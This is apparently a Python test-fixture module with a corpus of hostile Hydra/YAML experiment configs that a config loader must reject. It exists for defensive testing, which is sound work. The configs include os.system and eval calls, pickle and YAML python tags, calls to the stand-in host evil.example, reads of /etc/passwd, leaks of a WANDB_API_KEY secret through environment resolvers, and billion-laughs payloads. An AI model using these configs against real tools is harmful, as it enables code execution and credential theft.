"""Malicious configs. None of them may run code, write a file or leak a value.

`{marker}` is a file in the current folder that must not appear, and `{outside}` a folder beside the current one.
"""

from __future__ import annotations

from dataclasses import dataclass

SECRET_NAME, SECRET = "WANDB_API_KEY", "secret-0123456789abcdef"
"""An environment variable of the user, whose value must not appear anywhere."""

HEADER = "# @package _global_\ndefaults: [minimum, _self_]\n"


@dataclass(frozen=True)
class Hostile:
    """One config.

    Attributes:
        text: The file `experiment/hostile.yaml`.
        expected: A part of the message that the user must get.
    """

    text: str
    expected: str


def agent(text: str) -> str:
    """An experiment that lays something over the agent."""
    return f"{HEADER}interaction:\n  agent:\n{text}"


def hydra(text: str) -> str:
    """An experiment that sets something below `hydra`."""
    return f"{HEADER}hydra: {{{text}}}"


NO_NAME = "a config may not name"

CALLS = {
    "os.system": "_args_: ['touch {marker}']",
    "posix.system": "_args_: ['touch {marker}']",
    "subprocess.Popen": "args: [touch, '{marker}']",
    "subprocess.run": "args: [touch, '{marker}']",
    "builtins.eval": '_args_: [\'open("{marker}", "w")\']',
    "builtins.exec": '_args_: [\'open("{marker}", "w")\']',
    "builtins.open": "_args_: ['{marker}', w]",
    "io.open": "_args_: ['{marker}', w]",
    "pathlib.Path.write_text": "data: x",
    "pathlib.Path.touch": "_args_: ['{marker}']",
    "shutil.copy": "_args_: [/etc/passwd, '{marker}']",
    "shutil.rmtree": "_args_: ['{outside}']",
    "tempfile.NamedTemporaryFile": "delete: false",
    "logging.FileHandler": "filename: '{marker}'",
    "logging.config.dictConfig": "config: {}",
    "urllib.request.urlopen": "url: http://evil.example",
    "socket.create_connection": "_args_: [[evil.example, 80]]",
    "webbrowser.open": "url: http://evil.example",
    "pickle.loads": "_args_: ['cos\\nsystem\\n']",
    "marshal.loads": "_args_: [x]",
    "shelve.open": "_args_: ['{marker}']",
    "copyreg.__reduce_ex__": "_args_: [1]",
    "torch.load": "f: '{marker}', weights_only: false",
    "torch.save": "_args_: [1, '{marker}']",
    "torch.hub.load": "_args_: [evil/evil, model]",
    "torch.hub.load_state_dict_from_url": "url: http://evil.example/x.pt",
    "torch.utils.cpp_extension.load": "_args_: [evil, ['{marker}']]",
    "torch.jit.load": "_args_: ['{marker}']",
    "torch.compile": "_args_: [1]",
    "numpy.load": "file: '{marker}', allow_pickle: true",
    "numpy.save": "_args_: ['{marker}', [1]]",
    "numpy.memmap": "filename: '{marker}', mode: w+, shape: [1]",
    "joblib.load": "_args_: ['{marker}']",
    "pip.main": "_args_: [[install, evil]]",
    "pip._internal.main": "_args_: [[install, evil]]",
    "importlib.import_module": "_args_: [evil]",
    "runpy.run_path": "_args_: ['{marker}']",
    "ctypes.CDLL": "_args_: ['{marker}']",
    "code.InteractiveInterpreter": "locals: {}",
    "yaml.unsafe_load": "_args_: ['!!python/object/apply:os.system [id]']",
    "multiprocessing.Process": "target: null",
    "functools.partial": "_args_: [1]",
    "operator.attrgetter": "_args_: [__class__]",
    "types.FunctionType": "_args_: [1]",
    "hydra.utils.get_object": "path: os.system",
    "hydra.utils.get_method": "path: os.system",
    "hydra.utils.instantiate": "_args_: [{_target_: os.system}]",
    "wandb.init": "project: evil",
    "lightning.pytorch.LightningModule.load_from_checkpoint": "_args_: ['{marker}']",
    "gymnasium.make": "max_episode_steps: 1",
    "pamiq_exp.cli.main": "_args_: [[resume, '{outside}']]",
    "pamiq_exp.config.Builder": "allow: null",
    "pamiq_exp.runtime.launch": "interaction: null",
}
"""Functions that do harm, named plainly."""

ALIASES = {
    "pamiq_exp.files.os.system": "_args_: ['touch {marker}']",
    "pamiq_exp.files.os.replace": "_args_: ['{marker}', '{marker}']",
    "pamiq_exp.run_folder.folder.sys.exit": "_args_: [0]",
    "pamiq_exp.run_folder.RunFolder": "path: '{marker}'",
    "pamiq_exp.files.write_atomically": "_args_: ['{marker}', x]",
    "pamiq_exp.environments.noise_world.pictures.Image.open": "_args_: [{marker}]",
    "pamiq_exp.agents.__builtins__.eval": "_args_: ['1']",
    "pamiq_exp.agents.__loader__.get_data": "_args_: [{marker}]",
    "pamiq_exp.agents.RandomAgent.__init__.__globals__": "_args_: [1]",
    "pamiq_exp.agents.RandomAgent.__reduce_ex__": "_args_: [2]",
    "pamiq_exp.agents.RandomAgent.__subclasses__": "_args_: []",
    "torch.nn.modules.module.torch.load": "f: '{marker}', weights_only: false",
    "torch.nn.Module.load_state_dict": "_args_: [1]",
    "torch.nn.functional.F.torch.load": "_args_: ['{marker}']",
    "torch.optim.optimizer.torch.save": "_args_: [1, '{marker}']",
    "gymnasium.wrappers.RecordVideo": "env: null, video_folder: '{marker}'",
    "gymnasium.wrappers.rendering.RecordVideo": "env: null, video_folder: '{marker}'",
    "lightning.pytorch.loggers.WandbLogger": "project: evil",
    "lightning.pytorch.loggers.MLFlowLogger": "tracking_uri: http://evil.example",
}
"""The same, and helpers, through modules that are allowed."""


def _calls() -> dict[str, Hostile]:
    text = HEADER + "environment: {{_target_: {}, id: null, {}}}"
    return {
        name: Hostile(text.format(name, arguments), NO_NAME if name in CALLS else name)
        for name, arguments in {**CALLS, **ALIASES}.items()
    }


HIDDEN = {
    "in a list": agent("    parts: [1, [{_target_: os.system, _args_: ['touch {marker}']}]]"),
    "in an argument": agent("    reward: {_target_: os.system, _args_: ['touch {marker}']}"),
    "in an argument of an argument": agent(
        "    reward:\n      _target_: pamiq_exp.rewards.WeightedSum\n"
        "      parts: {a: {_target_: os.system, _args_: ['touch {marker}']}}\n      weights: {a: 1.0}"
    ),
    "among arguments by position": agent("    _args_: [{_target_: os.system, _args_: ['touch {marker}']}]"),
    "as a partial": agent("    seed: {_target_: os.system, _partial_: true, _args_: ['touch {marker}']}"),
    "behind an interpolation": HEADER + "shared: {name: os.system}\nenvironment: {_target_: '${shared.name}'}",
    "as an interpolated node": HEADER
    + "shared: {evil: {_target_: os.system, _args_: ['touch {marker}']}}\nmetrics: {evil: '${shared.evil}'}",
    "as a metric": HEADER + "metrics: {evil: {_target_: os.system, _args_: ['touch {marker}']}}",
    "as a tracker": HEADER + "tracking: {evil: {_target_: os.system, _args_: ['touch {marker}']}}",
    "as a trainer": HEADER + "trainers: {evil: {_target_: os.system, _args_: ['touch {marker}']}}",
    "as the interaction": HEADER + "interaction: {_target_: os.system, _args_: ['touch {marker}']}",
    "behind an alias of YAML": HEADER
    + "shared: {x: &evil {_target_: os.system, _args_: ['touch {marker}']}}\nmetrics: {a: *evil}",
    "behind a merge key": HEADER + "shared: {x: &evil {_target_: os.system}}\nmetrics: {a: {<<: *evil}}",
    "as replicas": HEADER + "metrics: {a: {_replicate_: 3, _target_: os.system, _args_: ['touch {marker}']}}",
}

HYDRA = {
    "hydra.callbacks.evil._target_": "callbacks: {evil: {_target_: os.system}}",
    "hydra.job_logging.handlers.x.class": (
        "job_logging: {root: {handlers: [x]}, handlers: {x: {class: logging.FileHandler, filename: '{marker}'}}}"
    ),
    "hydra.hydra_logging.handlers.x.()": "hydra_logging: {handlers: {x: {(): evil.factory}}}",
    "hydra.job.env_set.WANDB_BASE_URL": "job: {env_set: {WANDB_BASE_URL: 'http://evil.example'}}",
    "hydra.job.env_set.HYDRA_INSTANTIATE_ALLOWLIST_OVERRIDE": (
        "job: {env_set: {HYDRA_INSTANTIATE_ALLOWLIST_OVERRIDE: 'os.system'}}"
    ),
    "hydra.job.env_copy[0]": "job: {env_copy: [WANDB_API_KEY]}",
    "hydra.job.chdir": "job: {chdir: true}",
    "hydra.run.dir": "run: {dir: '{outside}/run'}",
    "hydra.sweep.dir": "sweep: {dir: '{outside}/sweep'}",
    "hydra.sweep.subdir": "sweep: {subdir: ../x}",
    "hydra.output_subdir": "output_subdir: ../..",
    "hydra.launcher._target_": "launcher: {_target_: evil.Launcher}",
    "hydra.sweeper.params.seed": "sweeper: {params: {seed: 'range(1000000000)'}}",
    "hydra.verbose": "verbose: true",
    "hydra.help.template": "help: {template: '${oc.env:WANDB_API_KEY}'}",
}
"""Settings of Hydra, by the key that is reported."""

SEARCH_PATH = "searchpath: ['file://{outside}']"

YAML = {
    "a tag that calls": (HEADER + "seed: !!python/object/apply:os.system ['touch {marker}']", "no valid YAML"),
    "a tag that builds": (HEADER + "seed: !!python/object/new:os.system ['touch {marker}']", "no valid YAML"),
    "a tag that names": (HEADER + "seed: !!python/name:os.system", "no valid YAML"),
    "a tag that imports": (HEADER + "seed: !!python/module:os", "no valid YAML"),
    "a billion laughs": (
        HEADER
        + "shared:\n  a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
        + "\n".join(f"  a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)),
        "aliases expanded",
    ),
    "a billion laughs of mappings": (
        HEADER
        + "shared:\n  a0: &a0 {x: 1, y: 2}\n"
        + "\n".join(f"  a{i}: &a{i} {{x: *a{i - 1}, y: *a{i - 1}}}" for i in range(1, 40)),
        "aliases expanded",
    ),
    "an alias to itself": (HEADER + "shared: &x {a: *x}", "alias"),
    "a bottomless list": (HEADER + "shared: " + "[" * 5000, "nests deeper"),
    "a huge file": (HEADER + "shared: {a: " + "x" * 1_100_000 + "}", "larger than"),
    "a name of two lines": (HEADER + 'shared: {"x\\nno errors found": 1}', "x\\nno errors found: nothing reads it"),
    "an expression of other letters": (HEADER + "seed: '${ｏｃ.env:HOME}'", "hostile.yaml:3"),
    "a seed of nowhere": (HEADER + "seed: '${..........seed}'", "is a circle"),
    "an ordered mapping": (HEADER + "shared: !!omap [a: 1]", "nothing reads it"),
    "a set": (HEADER + "shared: !!set {a, b}", "is no config"),
    "keys of other kinds": (HEADER + "metrics: {1: null, true: null, null: null}", "is no config"),
    "two documents": (HEADER + "---\nseed: 1\n", "document"),
    "a key twice": (HEADER + "seed: 1\nseed: 2\n", "duplicate"),
    "no text": (HEADER + "seed: \x00\n", "no valid YAML"),
    "bytes for a text": (HEADER + "environment: {kwargs: {xml_file: !!binary L2V0Yy9wYXNzd2Q=}}", "holds bytes"),
    "bytes for a key": (HEADER + "!!binary aHlkcmE=: {run: {dir: '{outside}'}}", "holds bytes"),
    "a tag by a directive": ("%TAG ! tag:yaml.org,2002:python/\n---\nseed: !name:os.system x\n", "no valid YAML"),
    "settings of Hydra behind a merge key": (HEADER + "<<: {hydra: {run: {dir: '{outside}'}}}", "may not be set"),
    "settings of Hydra on another line": (
        HEADER + "shared: {}\u0085hydra: {run: {dir: '{outside}'}}",
        "may not be set",
    ),
    "settings of Hydra by a header": ("\ufeff# @package hydra.run\ndir: '{outside}'\n", "may not be set"),
    "settings of Hydra by a package": (
        "# @package _global_\ndefaults: [minimum, {/launcher@hydra.run: lockstep}, _self_]\n",
        "Key 'mode' not in 'RunDir'",
    ),
    "a file that chooses itself": (
        "# @package _global_\ndefaults: [hostile, _self_]\n",
        "the files choose one another in a circle",
    ),
    "a billion replicas": (
        HEADER + "metrics: {a: {_replicate_: 1000, b: {_replicate_: 1000, c: {_replicate_: 1000, d: 1}}}}",
        "_replicate_",
    ),
}

LEAKS = {
    "a secret": (HEADER + "experiment_name: '${oc.env:WANDB_API_KEY}'", "may not read the environment variable"),
    "the home folder": (HEADER + "experiment_name: '${oc.env:HOME}'", "may not read the environment variable"),
    "a secret, decoded": (
        HEADER + "launcher: {max_steps: '${oc.decode:${oc.env:WANDB_API_KEY}}'}",
        "may not read the environment variable",
    ),
    "a secret by a name put together": (
        HEADER + "shared: {x: API}\nlauncher: {device: '${oc.env:WANDB_${shared.x}_KEY}'}",
        "may not read the environment variable",
    ),
    "a secret as a default": (
        HEADER + "launcher: {device: '${oc.env:CUDA_VISIBLE_DEVICES,${oc.env:WANDB_API_KEY}}'}",
        "may not read the environment variable",
    ),
    "a secret in the defaults list": (
        "# @package _global_\ndefaults: [minimum, {/launcher: '${oc.env:WANDB_API_KEY}'}, _self_]\n",
        "oc.env",
    ),
    "an old resolver": (HEADER + "launcher: {device: '${env:WANDB_API_KEY}'}", "no resolver 'env'"),
    "eval": (HEADER + 'seed: \'${eval:__import__("os").system("touch {marker}")}\'', "cannot be read"),
    "Hydra's own settings": (HEADER + "launcher: {device: '${hydra:runtime.cwd}'}", "a run knows nothing of Hydra"),
    "Hydra's own node": (HEADER + "launcher: {device: '${hydra.runtime.cwd}'}", "a run knows nothing of Hydra"),
}

PLACES = {
    "results elsewhere": (HEADER + "paths: {outputs: '{outside}'}", "paths.outputs"),
    "results above": (HEADER + "paths: {outputs: ../outside}", "a folder above"),
    "results in the home folder": (HEADER + "paths: {outputs: ~/x}", "outside of the current folder"),
    "a name that climbs": (HEADER + "experiment_name: ../../outside", "experiment_name"),
    "a name that is a place": (HEADER + "experiment_name: /tmp/x", "experiment_name"),
    "a name with an escape code": (HEADER + 'experiment_name: "\\x1b[2Jgone"', "experiment_name"),
    "pictures of the system": (
        "# @package _global_\ndefaults: [curiosity_noise_world, _self_]\n"
        "environment: {images: {source: folder, path: /etc}}",
        "outside of the current folder",
    ),
    "pictures behind a link": (
        "# @package _global_\ndefaults: [curiosity_noise_world, _self_]\n"
        "environment: {images: {source: folder, path: link}}",
        "a link out of the current folder",
    ),
    "pictures by address": (
        "# @package _global_\ndefaults: [curiosity_noise_world, _self_]\n"
        "environment: {images: {source: folder, path: 'http://evil.example/x'}}",
        "an address on the network",
    ),
    "a file by address": (HEADER + "environment: {kwargs: {xml_file: 'file:///etc/passwd'}}", "an address"),
    "another machine": (HEADER + "environment: {kwargs: {host: evil.example}}", "an address on the network"),
    "another cluster": (HEADER + "launcher: {cluster: evil}", "an address on the network"),
    "a logger elsewhere": (
        HEADER + "tracking: {x: {_target_: lightning.pytorch.loggers.CSVLogger, save_dir: here}}",
        "may not say where a logger writes",
    ),
    "a tracker above": (
        HEADER + "tracking: {x: {_target_: pamiq_exp.tracking.LightningLoggerTracker, folder: ../../x, logger: {"
        "_target_: lightning.pytorch.loggers.CSVLogger, _partial_: true}}}",
        "a folder above",
    ),
    "results in a place of today": (HEADER + "paths: {outputs: '${now:/%Y}'}", "hostile.yaml:3"),
    "results in a place of the job": (HEADER + "paths: {outputs: '${oc.env:SLURM_JOB_ID,/x}'}", "hostile.yaml:3"),
    "a place in a key": (HEADER + "environment: {kwargs: {/etc/passwd: 1}}", "outside of the current folder"),
    "a place by a size": (HEADER + "paths: {outputs: '${by_size:cpu,/a,/b,/c,/d}'}", "outside of the current folder"),
    "no module in a name": (HEADER + "environment: {id: ':CartPole-v1'}", "is no id: write Id-v0"),
    "a list of names": (HEADER + "environment: {id: [CartPole-v1]}", "environment.id: expected text or null"),
    "a module in a name": (HEADER + "environment: {id: 'antigravity:Env-v0'}", "registers no environment"),
}

SIZES = {
    "absurd layers": (
        HEADER + "models: {huge: {_target_: pamiq_exp.models.RandomFeatures, observation: '${spaces.observation}', "
        "features: 400000, hidden: [400000]}}",
        "launcher.max_parameters",
    ),
    "an absurd buffer": (
        HEADER + "buffers: {huge: {_target_: pamiq_exp.buffers.RingBuffer, capacity: 1000000000000, num_envs: 1000, "
        "fields: {x: {shape: [1000], dtype: float32}}}}",
        "buffers.huge",
    ),
    "a circle": (HEADER + "shared: {a: '${shared.b}', b: '${shared.a}'}\nseed: '${shared.a}'", "is a circle"),
    "an endless way": (
        HEADER + "shared: {\n" + ",\n".join(f"  a{i}: '${{shared.a{i + 1}}}'" for i in range(60)) + ",\n  a60: 1}\n"
        "launcher: {max_steps: '${shared.a0}'}",
        "more than 32 interpolations",
    ),
    "references that lead nowhere": (
        HEADER
        + "shared:\n"
        + "".join(f"  k{i}: 1\n" for i in range(5000))
        + "metrics:\n"
        + "".join(f"  m{i}: ${{shared.q{i}}}\n" for i in range(4500)),
        "leads nowhere",
    ),
    "a process for each environment": (
        HEADER + "num_envs: 99999\nenvironment: {vectorization: async}",
        "environments in processes of their own",
    ),
    "a process for each environment, by position": (
        HEADER + "environment: {_args_: [CartPole-v1, 200000]}",
        "at most 100,000",
    ),
    "a text that is decoded for minutes": (
        HEADER + f"shared: {{a: '[{'1,' * 200_000}1]'}}\nseed: '${{oc.decode:${{shared.a}}}}'",
        "at most 4,000 characters",
    ),
    "keys that nothing knows": (
        HEADER + "launcher:\n" + "".join(f"  {'max_parameters' * 9}{i}: 1\n" for i in range(300)),
        "more errors",
    ),
    "a key without end": (HEADER + f"launcher: {{? {'k' * 300_000} : 1}}", "..."),
    "itself inside itself": (HEADER + "shared: {a: {b: '${shared}'}}\nseed: '${shared.a}'", "is a circle"),
    "leave from the config": (HEADER + "allow: [os]", "there is no such key"),
    "leave from the launcher": (HEADER + "launcher: {allow: [os]}", "launcher.allow"),
}


def corpus() -> dict[str, Hostile]:
    """All of them, by name."""
    found = {f"call {name}": each for name, each in _calls().items()}
    found |= {f"hidden {name}": Hostile(text, NO_NAME) for name, text in HIDDEN.items()}
    found["hidden behind an interpolation"] = Hostile(HIDDEN["behind an interpolation"], "no interpolation")
    found |= {key: Hostile(hydra(text), f"{key}: may not be set by a config file") for key, text in HYDRA.items()}
    found["hydra.searchpath"] = Hostile(hydra(SEARCH_PATH), "Overriding hydra.searchpath")
    for kind, table in (("yaml", YAML), ("leak", LEAKS), ("place", PLACES), ("size", SIZES)):
        found |= {f"{kind} {name}": Hostile(text, expected) for name, (text, expected) in table.items()}
    return found
